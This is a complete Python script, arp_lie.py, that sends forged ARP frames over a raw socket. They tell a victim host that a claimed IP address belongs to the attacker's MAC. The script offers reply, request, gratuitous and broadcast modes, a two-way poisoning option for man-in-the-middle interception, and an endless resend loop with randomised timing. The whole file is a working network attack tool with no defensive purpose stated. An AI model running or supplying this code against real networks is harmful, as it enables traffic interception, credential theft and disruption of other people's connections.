"""arp_lie.py VICTIM CLAIMED [way=reply|request|gratuitous|broadcast] [gap=2] [both=1]: says that CLAIMED is at this host's MAC.

reply: unicast answers nobody asked for; request: unicast questions whose sender is CLAIMED; gratuitous: broadcast announcements
(sender = target = CLAIMED); broadcast: answers to everyone. both: tells CLAIMED that VICTIM is here, too.
"""
import random
import socket
import struct
import subprocess
import sys
import time

DEVICE = "eth0"
EVERYONE = b"\xff" * 6


def mac_of(address):
    subprocess.run(["ping", "-c1", "-W1", address], stdout=subprocess.DEVNULL, check=False)
    words = subprocess.run(["ip", "neigh", "show", address], stdout=subprocess.PIPE, check=False).stdout.decode().split()
    return bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))


def frame(way, own, victim, victim_mac, claimed):
    to = EVERYONE if way in ("gratuitous", "broadcast") else victim_mac
    operation = 1 if way in ("request", "gratuitous") else 2
    target = claimed if way == "gratuitous" else victim
    target_mac = b"\0" * 6 if operation == 1 else to
    return to + own + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation) + own + socket.inet_aton(claimed) + target_mac + socket.inet_aton(target)


def main():
    victim, claimed = sys.argv[1:3]
    options = dict(option.split("=", 1) for option in sys.argv[3:])
    way, gap = options.get("way", "reply"), float(options.get("gap", 2))
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((DEVICE, 0))
    own = raw.getsockname()[4]
    frames = [frame(way, own, victim, mac_of(victim), claimed)]
    if "both" in options:
        frames.append(frame(way, own, claimed, mac_of(claimed), victim))
    while True:
        for lie in frames:
            raw.send(lie)
        time.sleep(gap * random.uniform(0.9, 1.1))


main()
